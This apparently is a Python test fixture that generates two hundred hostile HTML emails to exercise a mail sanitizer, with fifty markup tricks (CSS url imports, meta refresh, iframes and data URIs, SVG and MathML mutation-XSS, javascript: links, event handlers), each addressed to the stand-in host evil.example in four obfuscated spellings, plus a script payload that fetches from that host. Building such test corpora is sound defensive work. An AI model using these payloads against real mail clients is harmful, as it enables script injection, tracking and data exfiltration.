"""Two hundred mails that want out: fifty ways to fetch or run something, each with its address spelt four ways."""

import re
from email.message import EmailMessage

HOST = "evil.example"
SPELLINGS = {
    "plain": "http://{host}/{n}",
    "no scheme": "//{host}/{n}",
    "entities": "&#104;&#x74;tp&colon;&sol;&sol;{host}/{n}",
    "broken by a tab": " HT\tTP://{host}\\{n}",
}
# U is the address, R a script that would both ask and call.
RUNS = "fetch('http://evil.example/ran');alert(1)"
WAYS = (
    '<img src="U">',
    '<img srcset="U 1x, U 2x" src="cid:nobody">',
    "<picture><source srcset='U'><img src='U'></picture>",
    '<img src="cid:part1" alt="x" longdesc="U" lowsrc="U" dynsrc="U">',
    '<input type="image" src="U">',
    '<div style="background:url(U)">x</div>',
    '<div style="background-image:image-set(\'U\' 1x)">x</div>',
    '<p style="list-style-image:url(\'U\');cursor:url(U),auto">x</p>',
    '<p style="b\\61 ckground:u\\72l(U)">x</p>',
    '<div style="border-image-source:url(U);mask:url(U);filter:url(U#f)">x</div>',
    '<p style="--a:url(U);background:var(--a)">x</p>',
    '<style>@import "U";</style>',
    '<style>@import url(U) screen;</style>',
    '<style>body{background:url(U)}</style>',
    '<style>@font-face{font-family:z;src:url(U)}body{font-family:z}</style>',
    "<style><!-- </style><img src='U'> --></style>",
    '<link rel="stylesheet" href="U">',
    '<link rel="prefetch" href="U"><link rel="prerender" href="U">',
    '<link rel="dns-prefetch" href="U"><link rel="preconnect" href="U">',
    '<link rel="preload" as="font" crossorigin href="U">',
    '<link rel="icon" href="U"><link rel="manifest" href="U"><link rel="modulepreload" href="U">',
    '<meta http-equiv="refresh" content="0;url=U">',
    '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=refresh content="0;U">',
    '<base href="U"><img src="relative.png"><a href="next">x</a>',
    '<base target="_top"><form action="U" id=f><input name=q autofocus></form>',
    '<form action="U" method="post"><button formaction="U" autofocus>Sign in</button></form>',
    '<isindex action="U" prompt="x"><keygen autofocus onfocus="R">',
    '<iframe src="U"></iframe>',
    '<iframe srcdoc="<img src=\'U\'><script>R</script>"></iframe>',
    '<frameset><frame src="U"></frameset>',
    '<object data="U" type="text/html"><embed src="U"></object>',
    '<applet code="x" codebase="U" archive="U"></applet>',
    '<object data="data:text/html,<img src=U><script>R</script>"></object>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<svg><image href="U"/><image xlink:href="U"/><use href="U#a"/></svg>',
    '<svg onload="R"><script href="U">R</script></svg>',
    "<svg><style>@import 'U';</style><foreignObject><img src='U'></foreignObject></svg>",
    '<svg><animate xlink:href="#a" attributeName="href" values="U"/><a id=a>'
    '<set attributeName="href" to="U"/></a></svg>',
    '<math><mtext><table><mglyph><style><img src="U" onerror="R"></style></mglyph></table></mtext></math>',
    '<math href="U" xlink:href="U"><maction actiontype="statusline">x</maction></math>',
    '<template><img src="U" onerror="R"></template><noscript><p title="</noscript><img src=U onerror=R>"></noscript>',
    '<video poster="U" src="U" autoplay></video><audio src="U" autoplay></audio><track src="U"><source src="U">',
    '<body background="U" onload="R"><table background="U"><tr><td background="U">x</td></tr></table>',
    '<a href="U" ping="U">pay</a><a href="javascript:R">run</a><a href="jav&#09;ascript:R">run</a>'
    '<area href="U" ping="U">',
    "<script src='U'></script><script>R</script><script type=module>import 'U'</script>",
    '<img src=x onerror="R"><details open ontoggle="R"><summary>x</summary></details><marquee onstart="R">x</marquee>',
    '<div><p><b><table><div><img src="U"</div></p><td></b><i><img src=\'U\' onerror=R x="<!--">--></table>',
    "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>R</x:script></xml>"
    "<![CDATA[<img src=U>]]><?php echo '<img src=U>' ?>",
    '<table width="99999999" height="99999999">' + "<tr><td>x</td></tr>" * 300
    + '</table><img width=1 height=1 src="U">',
    '<blockquote cite="U"><q cite="U">x</q><ins cite="U">y</ins></blockquote><bgsound src="U">'
    '<layer src="U"></layer><plaintext><img src="U">',
)  # fmt: skip
MARK = "Where is my order 4711?"


def bodies() -> list[str]:
    """All of them as HTML, each with MARK in it and a number of its own in its addresses."""
    found = []
    for way in WAYS:
        for spelling in SPELLINGS.values():
            address = spelling.format(host=HOST, n=len(found))
            tries = re.sub(r"\b[UR]\b", lambda hole: {"U": address, "R": RUNS}[hole[0]], way)  # noqa: B023
            found.append(f"<html><body><p>{MARK} {len(found)}</p>{tries}</body></html>")
    return found


def hostile_mail(to: str, html: str, thread: int, number: int) -> bytes:
    """Mail `number` (from 0) of one conversation, with a picture whose Content-ID is meant to confuse."""
    message = EmailMessage()
    message["From"], message["To"] = f"mallory{thread}@kunde.example", to
    message["Subject"], message["Date"] = f"Order 4711 ({thread})", "Mon, 30 Nov 2026 20:00:00 +0000"
    message["Message-ID"] = f"<hostile.{thread}.{number}@kunde.example>"
    if number:
        message["In-Reply-To"] = f"<hostile.{thread}.{number - 1}@kunde.example>"
    message.set_content(MARK)
    message.add_alternative(html, subtype="html")
    message.get_payload()[1].add_related(  # type: ignore[index, union-attr]
        b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/cid'/></svg>",
        maintype="image", subtype="svg+xml", cid="<part1>",
    )  # fmt: skip
    return message.as_bytes()
